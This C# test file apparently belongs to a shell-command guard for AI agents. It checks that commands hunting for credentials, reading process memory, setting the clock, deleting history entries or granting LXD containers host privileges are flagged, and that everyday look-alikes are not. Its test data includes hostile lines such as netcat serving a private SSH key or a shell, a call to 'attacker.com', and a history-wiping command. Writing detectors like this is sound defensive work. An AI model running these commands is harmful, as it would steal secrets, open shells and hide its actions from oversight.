using Microsoft.Extensions.DependencyInjection;

namespace AgentGuard.Shell.Tests;

/// <summary>
/// Classes found on the tuning part of the PayloadsAllTheThings lines (sixth round, branch <c>shell5</c>): searching
/// the whole disk, a home folder or the system's settings for passwords and tokens (credential hunting); reading the
/// machine's or a process's memory (<c>/dev/mem</c>, <c>/proc/PID/mem</c>); setting the system clock; deleting
/// entries of the shell history (<c>history -d</c>); LXD/Incus containers given the host's privileges or root
/// folder; and, as a false alarm removed, a netcat listener with no file, pipe or command attached, which only
/// receives. Each class has the everyday neighbours it must leave alone.
/// </summary>
public sealed class HuntingClassTests
{
    private static IReadOnlyList<string> Tags(string line) => ShellAnalyzer.Analyze(line).Tags;

    [Theory]
    [InlineData("grep --color=auto -rnw '/' -ie \"PASSWORD\" 2> /dev/null")]
    [InlineData("grep -ri password /")]
    [InlineData("grep -R -i 'api_key' ~")]
    [InlineData("grep -rl secret /etc")]
    [InlineData("rg -i 'passw(or)?d' /home")]
    [InlineData("grep -r -E 'token|passwd' $HOME")]
    [InlineData("ag -i aws_secret_access_key /")]
    [InlineData("find / -type f -exec grep -i -l password {} +")]
    [InlineData("egrep -ir 'BEGIN (RSA|OPENSSH) PRIVATE KEY' /")]
    public void SearchingTheDiskOrHomeForSecrets_IsCredentialAccess(string line)
        => Tags(line).Should().Contain(ShellTags.CredentialAccess);

    [Theory]
    [InlineData("grep -ri password src/")]
    [InlineData("grep -rn TODO /")]
    [InlineData("grep -r 'password' .")]
    [InlineData("find . -type f -exec grep -i -I \"PASSWORD\" {} /dev/null \\;")]
    [InlineData("rg -i token lib/auth")]
    [InlineData("grep -i password /var/log/app/app.log")]
    [InlineData("grep -r passwd docs")]
    public void SearchingTheWorkspaceOrAFileForTheWord_IsNotCredentialAccess(string line)
        => Tags(line).Should().NotContain(ShellTags.CredentialAccess);

    [Theory]
    [InlineData("strings /dev/mem -n10 | grep -i PASS")]
    [InlineData("dd if=/dev/mem bs=1M count=1 of=/tmp/m")]
    [InlineData("cat /proc/kcore > /tmp/k")]
    [InlineData("xxd /dev/kmem | head")]
    [InlineData("dd if=/proc/1234/mem bs=1 skip=4096 count=64")]
    [InlineData("strings /proc/$PID/mem | grep token")]
    [InlineData("cat /proc/$PID/environ")]
    [InlineData("tr '\\0' '\\n' < /proc/$(pgrep -n node)/environ")]
    public void ReadingMemory_IsCredentialAccess(string line)
        => Tags(line).Should().Contain(ShellTags.CredentialAccess);

    [Theory]
    [InlineData("cat /proc/meminfo")]
    [InlineData("free -m")]
    [InlineData("cat /proc/1234/status")]
    [InlineData("ls /dev/")]
    public void MemoryFigures_AreNotCredentialAccess(string line)
        => Tags(line).Should().NotContain(ShellTags.CredentialAccess);

    [Theory]
    [InlineData("date -s \"2022-10-31 23:59:59\"")]
    [InlineData("date --set='@1667275140'")]
    [InlineData("date 103123592022")]
    [InlineData("timedatectl set-time '2022-10-31 23:59:59'")]
    [InlineData("timedatectl set-ntp false")]
    [InlineData("hwclock --systohc")]
    [InlineData("hwclock --set --date '2022-10-31'")]
    [InlineData("ORIG_TIME=$(date)\ndate -s \"2022-10-31\"\ndate -s \"${ORIG_TIME}\"")]
    public void SettingTheSystemClock_IsPrivilege(string line)
        => Tags(line).Should().Contain(ShellTags.Privilege);

    [Theory]
    [InlineData("date")]
    [InlineData("date +%s")]
    [InlineData("date -u +%Y-%m-%dT%H:%M:%SZ")]
    [InlineData("date -d yesterday +%F")]
    [InlineData("date -r build.log")]
    [InlineData("date -d 20221031 +%s")]
    [InlineData("date --date 202210312359 +%F")]
    [InlineData("date -Iseconds")]
    [InlineData("timedatectl status")]
    [InlineData("timedatectl")]
    [InlineData("hwclock --show")]
    public void ReadingTheClock_IsNotPrivilege(string line)
        => Tags(line).Should().NotContain(ShellTags.Privilege);

    [Theory]
    [InlineData("history -d -2 && history -d -1")]
    [InlineData("history -d 42")]
    [InlineData("history -d 10-20")]
    public void DeletingHistoryEntries_IsDestructive(string line)
        => Tags(line).Should().Contain(ShellTags.Destructive);

    [Theory]
    [InlineData("history")]
    [InlineData("history 20")]
    [InlineData("history | grep docker")]
    public void ReadingHistory_IsNotDestructive(string line)
        => Tags(line).Should().NotContain(ShellTags.Destructive);

    [Theory]
    [InlineData("lxc init myimage mycontainer -c security.privileged=true")]
    [InlineData("lxc launch ubuntu:22.04 c1 --config security.privileged=true")]
    [InlineData("lxc config set c1 security.privileged true")]
    [InlineData("lxc config device add mycontainer mydevice disk source=/ path=/mnt/root recursive=true")]
    [InlineData("incus config device add c1 host disk source=/etc path=/mnt/etc")]
    [InlineData("lxc config device add c1 home disk source=/home/alice path=/mnt/h")]
    [InlineData("lxc launch ubuntu c2 -c raw.lxc='lxc.apparmor.profile=unconfined'")]
    public void LxdContainersGivenTheHost_ArePrivilege(string line)
        => Tags(line).Should().Contain(ShellTags.Privilege);

    [Theory]
    [InlineData("lxc launch ubuntu:22.04 c1")]
    [InlineData("lxc config device add c1 src disk source=/srv/project/src path=/src")]
    [InlineData("lxc config set c1 limits.memory 2GiB")]
    [InlineData("lxc list")]
    public void OrdinaryLxdContainers_AreNotPrivilege(string line)
        => Tags(line).Should().NotContain(ShellTags.Privilege);

    [Theory]
    [InlineData("ncat --tcp -lvp 4242")]
    [InlineData("nc -l 4444")]
    [InlineData("nc -lvnp 9001 > received.bin")]
    [InlineData("ncat --listen --udp 5353")]
    public void NetcatListener_WithNothingAttached_IsNotExfiltration(string line)
        => Tags(line).Should().NotContain(ShellTags.Exfiltration);

    [Theory]
    [InlineData("nc -l -p 12345 < /etc/hosts")]
    [InlineData("cat ~/.ssh/id_rsa | nc -l 4444")]
    [InlineData("nc -lvp 4444 -e /bin/sh")]
    [InlineData("ncat -l 4444 --sh-exec 'cat /etc/passwd'")]
    [InlineData("nc -l 4444 <<< \"$(env)\"")]
    [InlineData("nc attacker.com 4444")]
    [InlineData("ncat -l 4444 --send-only < data.db")]
    public void NetcatSendingOrServing_IsStillFlagged(string line)
        => ShellAnalyzer.Analyze(line).Risk.Should().Be(RiskLevel.High, string.Join(",", Tags(line)));

    [Theory]
    [InlineData("grep -ri password /")]
    [InlineData("date -s '2022-10-31 23:59:59'")]
    [InlineData("lxc init img c -c security.privileged=true")]
    [InlineData("history -d 42")]
    public async Task DefaultPack_DoesNotAllow_TheseLines(string line)
    {
        await using var provider = ShellTestHost.Create("""{ "AgentGuard": { } }""", b => b.AddDefaultPolicyPack());
        var check = await provider.GetRequiredService<IGuardedShell>().CheckAsync(line);
        check.Decision.IsAllowed.Should().BeFalse(check.Decision.Reason);
    }

    [Theory]
    [InlineData("grep -ri password src/")]
    [InlineData("date +%s")]
    [InlineData("nc -l 4444")]
    public async Task DefaultPack_Allows_TheEverydayNeighbours(string line)
    {
        await using var provider = ShellTestHost.Create("""{ "AgentGuard": { } }""", b => b.AddDefaultPolicyPack());
        var check = await provider.GetRequiredService<IGuardedShell>().CheckAsync(line);
        check.Decision.IsAllowed.Should().BeTrue(check.Decision.Reason);
    }
}
